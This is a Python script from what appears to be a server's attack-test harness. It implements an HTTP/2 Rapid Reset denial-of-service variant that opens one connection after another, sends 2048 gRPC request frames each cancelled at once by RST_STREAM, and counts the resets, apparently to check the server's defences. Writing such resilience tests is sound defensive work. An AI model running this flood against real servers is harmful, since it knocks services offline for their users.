"""As many calls as a connection takes, reset at once, and then the next connection."""

from __future__ import annotations

import itertools
import sys
import time
from contextlib import suppress

from attacks.a02_rapid_reset import CANCEL, REQUEST, blocks_of
from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import RST_STREAM, call, connected, frame

# What gRPC takes of one connection before it refuses the next one.
_CALLS = 2048
# Another address than the honest caller's.
_SOURCE = "127.0.0.2"


def _strike(target: Target, begin: Begin) -> Counts:
    blocks = itertools.cycle(blocks_of(target))
    frames = b"".join(
        call(stream, next(blocks), REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(1, 2 * _CALLS, 2)
    )
    connections = 0
    until = begin()
    while time.monotonic() < until:
        with suppress(OSError), connected(target.place, source=_SOURCE) as connection:
            connection.sendall(frames)
            connections += 1
            # Until the server has read them: a connection that is closed before brings none.
            connection.recv(1 << 16)
    return {"connections": connections, "resets": connections * _CALLS}


# The attacker has four to seven connections before it must pause, and again after each term; what
# they bring delays the honest caller for a moment (docs/decisions/calls-wait-without-a-thread.md).
ATTACK = Attack("resets on one connection after another", _strike, long_seconds=20.0)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
